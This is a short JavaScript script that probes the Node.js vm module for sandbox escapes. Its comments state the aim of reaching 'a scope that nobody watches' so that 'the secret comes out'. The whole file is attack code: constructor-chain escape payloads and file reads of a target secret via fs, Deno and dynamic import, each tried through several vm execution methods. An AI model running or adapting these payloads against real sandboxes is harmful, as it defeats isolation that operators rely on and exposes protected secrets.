// Tries: new contexts of node:vm, and their constructors, for a scope that nobody watches.
// Escape: from there the secret comes out, or there is a process object of another kind.
const vm = require('node:vm');
const codes = [
  `this.constructor.constructor('return process')()`,
  `process.getBuiltinModule('fs').readFileSync(${JSON.stringify(target.secret)}, 'utf8')`,
  `require('fs').readFileSync(${JSON.stringify(target.secret)}, 'utf8')`,
  `Deno.readTextFileSync(${JSON.stringify(target.secret)})`,
  `given.constructor.constructor('return process')().getBuiltinModule('fs').readFileSync(${JSON.stringify(target.secret)}, 'utf8')`,
  `import('fs')`,
];
for (const code of codes) {
  probe(`a new context: ${code}`, () => vm.runInNewContext(code, { given: {} }));
  probe(`this context: ${code}`, () => vm.runInThisContext(code));
  probe(`a script: ${code}`, () =>
    new vm.Script(code, {
      importModuleDynamically: vm.constants?.USE_MAIN_CONTEXT_DEFAULT_LOADER,
    }).runInThisContext(),
  );
  probe(`a function: ${code}`, () => vm.compileFunction(`return ${code}`)());
}
probe('a context of one’s own process', () => {
  const context = vm.createContext({ process });
  return vm.runInContext(
    `process.getBuiltinModule('node:fs').readFileSync(${JSON.stringify(target.secret)}, 'utf8')`,
    context,
  );
});
